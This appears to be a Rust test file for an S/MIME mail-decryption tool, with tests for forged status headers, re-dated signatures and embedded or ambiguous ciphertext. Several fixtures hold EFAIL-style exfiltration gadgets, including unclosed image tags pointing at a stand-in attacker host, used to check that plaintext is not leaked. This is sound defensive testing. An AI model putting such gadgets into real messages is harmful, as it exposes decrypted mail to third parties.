/// exact bytes of the signed part with LF line ends (as NSS writes them
/// inside the encryption; `openssl cms -verify -binary` accepts them, and
/// so does `smime::verify_detached`, which tries the exact bytes first).
/// The decrypted entity must be verified over the bytes that were
/// decrypted.
///
/// Fails today: `Transformer::smime_mime` and `inner_layers`
/// (src/message/mod.rs) convert the decrypted/unwrapped content with
/// `pop3::response::crlf_lines` *before* `inner_layers` verifies a nested
/// multipart/signed, so the exact bytes are gone and the signature is
/// reported `bad`. The same happens in the Thunderbird corpus mails
/// `alice.env.dsig.SHA*.multipart.dave.sig.SHA*.opaque.eml`.
#[test]
fn inner_signature_is_verified_over_the_decrypted_bytes() {
    let alice = signer("alice");
    let signed_part = b"Content-Type: text/plain; charset=utf-8\n\nHello Demo,\nthis part was signed with LF line ends, inside the encryption.\n";
    let sig = sign_detached(&alice, signed_part);
    let mut inner = b"Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=\"lf-b\"\n\n--lf-b\n".to_vec();
    inner.extend_from_slice(signed_part);
    inner.extend_from_slice(b"\n--lf-b\nContent-Type: application/pkcs7-signature; name=\"smime.p7s\"\nContent-Transfer-Encoding: base64\n\n");
    inner.extend_from_slice(base64_lines(&sig, "\n").as_bytes());
    inner.extend_from_slice(b"--lf-b--\n");

    // The crypto layer agrees that the signature is good over these bytes.
    let ring = Keyring::load(&golden().join("keys"), &PassphraseSource::default()).unwrap();
    let v = smime::verify_detached(&ring.smime, &sig, signed_part);
    assert!(
        matches!(v.as_slice(), [smime::SigVerdict::Good { .. }]),
        "{v:?}"
    );

    let mut recipients = Stack::new().unwrap();
    recipients.push(demo_cert()).unwrap();
    let der = CmsContentInfo::encrypt(
        &recipients,
        &inner,
        Cipher::aes_256_gcm(),
        CMSOptions::BINARY,
    )
    .unwrap()
    .to_der()
    .unwrap();
    let mut msg = outer_headers(
        "Alice Demo <alice@popcrypt.invalid>",
        "LF-signed inside",
        now(),
    )
    .into_bytes();
    msg.extend_from_slice(
        b"Content-Type: application/pkcs7-mime; smime-type=authEnveloped-data; name=\"smime.p7m\"\r\n\
          Content-Transfer-Encoding: base64\r\n\r\n",
    );
    msg.extend_from_slice(base64_lines(&der, "\r\n").as_bytes());
    let (out, report) = transformer().transform(&msg);
    assert_eq!(
        report.encryption,
        smime_decrypted("aes-256-gcm", false, None)
    );
    assert!(
        contains(&out, b"this part was signed with LF line ends"),
        "decrypted"
    );
    assert_eq!(report.signature, alice_good());
}

/// Status headers forged by the sender are removed; the Date header is
/// compared with the signingTime.
#[test]
fn forged_status_headers_and_message_date() {
    let t = transformer();
    let forged = b"X-Popcrypt-Encryption: smime; decrypted; algorithm=aes-256-gcm\r\n\
                   X-Popcrypt-Signature: smime; good;\r\n signer=FORGED@popcrypt.invalid\r\n";
    for name in [
        "signed-detached",
        "enveloped-aes256-gcm",
        "enveloped-other-recipient",
    ] {
        let input = case_input(name);
        let mut with_forged = forged.to_vec();
        with_forged.extend_from_slice(&input);
        let (out, report) = t.transform(&with_forged);
        let (clean_out, clean_report) = t.transform(&input);
        assert_eq!(report, clean_report, "{name}");
        assert!(
            out == clean_out,
            "{name}: the forged headers are not removed"
        );
        assert!(!contains(&out, b"FORGED"), "{name}");
    }

    // Same signature, Date moved two hours: a re-dated message is rejected.
    let input = case_input("signed-detached");
    let date = header_values(&input, "date").remove(0);
    let signed_at = mail_parser::DateTime::parse_rfc822(&date)
        .unwrap()
        .to_timestamp();
    let moved =
        String::from_utf8(input.clone())
            .unwrap()
            .replacen(&date, &rfc5322(signed_at + 7200), 1);
    let (out, report) = t.transform(moved.as_bytes());
    assert!(
        matches!(&report.signature.verdict, Verdict::Rejected {
            scheme: Scheme::Smime,
            reason,
        } if reason.starts_with("the signature was made at ")
            && reason.contains("but the message is dated")),
        "{report:?}"
    );
    assert!(out == annotate_message(moved.as_bytes(), &report));
    // Within the hour: good.
    let near =
        String::from_utf8(input.clone())
            .unwrap()
            .replacen(&date, &rfc5322(signed_at + 1800), 1);
    assert_eq!(t.transform(near.as_bytes()).1.signature, alice_good());
}

/// A ciphertext that is not the whole message (attacker text around it, a
/// forwarded message) is never decrypted.
#[test]
fn embedded_ciphertext_is_not_decrypted() {
    let t = transformer();
    let enc = case_input("enveloped-aes256-gcm");
    let (_, enc_body) = enc.split_at(mime::body_start(&enc));
    let mut mixed =
        outer_headers("Mallory <mallory@popcrypt.invalid>", "Re: hi", now()).into_bytes();
    mixed.extend_from_slice(
        b"Content-Type: multipart/mixed; boundary=\"mix\"\r\n\r\n--mix\r\n\
          Content-Type: text/html\r\n\r\n<img src=\"http://attacker.invalid/?\r\n--mix\r\n\
          Content-Type: application/pkcs7-mime; smime-type=authEnveloped-data; name=\"smime.p7m\"\r\n\
          Content-Transfer-Encoding: base64\r\n\r\n",
    );
    mixed.extend_from_slice(enc_body);
    mixed.extend_from_slice(b"\r\n--mix--\r\n");

    let mut forwarded =
        outer_headers("Mallory <mallory@popcrypt.invalid>", "Fwd: hi", now()).into_bytes();
    forwarded.extend_from_slice(
        b"Content-Type: multipart/mixed; boundary=\"fwd\"\r\n\r\n--fwd\r\n\
          Content-Type: text/plain\r\n\r\nsee below\r\n--fwd\r\nContent-Type: message/rfc822\r\n\r\n",
    );
    forwarded.extend_from_slice(&enc);
    forwarded.extend_from_slice(b"\r\n--fwd--\r\n");

    // Alice's good signature around a mixed entity that holds the ciphertext.
    let alice = signer("alice");
    let mut part = b"Content-Type: multipart/mixed; boundary=\"in\"\r\n\r\n--in\r\n\
                     Content-Type: text/plain\r\n\r\nhello\r\n--in\r\n\
                     Content-Type: application/pkcs7-mime; smime-type=authEnveloped-data\r\n\
                     Content-Transfer-Encoding: base64\r\n\r\n"
        .to_vec();
    part.extend_from_slice(enc_body);
    part.extend_from_slice(b"\r\n--in--");
    let signed = multipart_signed(
        &outer_headers("Alice Demo <alice@popcrypt.invalid>", "signed mixed", now()),
        &part,
        &sign_detached(&alice, &part),
    );

    for (what, msg) in [
        ("multipart/mixed", mixed),
        ("message/rfc822", forwarded),
        ("multipart/signed around mixed", signed),
    ] {
        let (out, report) = t.transform(&msg);
        assert!(
            report.encryption == Encryption::None,
            "{what}: embedded ciphertext decrypted: {report:?}"
        );
        assert!(out == annotate_message(&msg, &report), "{what}: altered");
        assert!(
            !contains(&out, b"popcrypt S/MIME test message"),
            "{what}: plaintext released"
        );
        if what.starts_with("multipart/signed") {
            assert_eq!(report.signature, alice_good(), "{what}");
        }
    }
}

/// Every case is an S/MIME mail of the kind its name says (guards the
/// expectations against a regenerate.sh that changes shape).
#[test]
fn case_shapes() {
    for name in case_names(&golden().join("cases")) {
        let input = case_input(&name);
        let msg = MessageParser::default().parse(&input).unwrap();
        let root = &msg.parts[0];
        let ctype = mime::mime_type(root);
        let want = if name.starts_with("signed-detached") || name == "encrypt-then-sign" {
            "multipart/signed"
        } else if name.starts_with("mixed-") {
            "multipart/mixed"
        } else if name == "enveloped-x-pkcs7-mime" {
            "application/x-pkcs7-mime"
        } else {
            "application/pkcs7-mime"
        };
        assert_eq!(ctype, want, "{name}");
        if let (PartType::Multipart(ids), "multipart/signed") = (&root.body, ctype.as_str()) {
            assert_eq!(ids.len(), 2, "{name}");
            let sig = &msg.parts[ids[1] as usize];
            assert_eq!(
                sig.content_type().map(|c| c.subtype().unwrap_or("")),
                Some("pkcs7-signature"),
                "{name}"
            );
        }
        assert!(msg.date().is_some(), "{name}: Date");
    }
}

/// CBC content whose structure a client may read differently from popcrypt
/// (here a delimiter with trailing text, which some clients take as a
/// delimiter and which hides an HTML part from a strict reader) is neither
/// rendered as popcrypt reads it nor as the client might: the whole entity
/// is delivered as one text/plain rendering. With AES-GCM the same entity
/// is delivered as decrypted.
#[test]
fn ambiguous_cbc_structure_is_delivered_as_text() {
    let entity = b"Content-Type: multipart/alternative; boundary=\"b\"\r\n\r\n--b\r\n\
                   Content-Type: text/plain\r\n\r\nhello\r\n--bContent-Type: text/html\r\n\r\n\
                   <img src=\"http://x.attacker.invalid/\">\r\n--b--\r\n";
    let mut recipients = Stack::new().unwrap();
    recipients.push(demo_cert()).unwrap();
    let build = |cipher: Cipher, smime_type: &str| {
        let der = CmsContentInfo::encrypt(&recipients, entity, cipher, CMSOptions::BINARY)
            .unwrap()
            .to_der()
            .unwrap();
        let mut msg =
            outer_headers("Alice Demo <alice@popcrypt.invalid>", "ambiguous", now()).into_bytes();
        msg.extend_from_slice(
            format!(
                "Content-Type: application/pkcs7-mime; smime-type={smime_type}; \
                 name=\"smime.p7m\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            )
            .as_bytes(),
        );
        msg.extend_from_slice(base64_lines(&der, "\r\n").as_bytes());
        msg
    };
    let t = transformer();
    let (out, report) = t.transform(&build(Cipher::aes_256_cbc(), "enveloped-data"));
    assert_eq!(
        report.encryption,
        smime_decrypted("aes-256-cbc", true, Some(Change::AsText))
    );
    assert_eq!(
        header_values(&out, "content-type"),
        ["text/plain; charset=utf-8"]
    );
    let text = mail_parser::MessageParser::default().parse(&out).unwrap();
    assert_eq!(text.parts.len(), 1, "one text part, nothing to render");
    assert_eq!(
        text.parts[0].contents(),
        entity,
        "the whole decrypted entity, as text"
    );
    let (out, report) = t.transform(&build(Cipher::aes_256_gcm(), "authEnveloped-data"));
    assert_eq!(
        report.encryption,
        smime_decrypted("aes-256-gcm", false, None)
    );
    assert!(contains(&out, b"<img src=\"http://x.attacker.invalid/\">"));
}
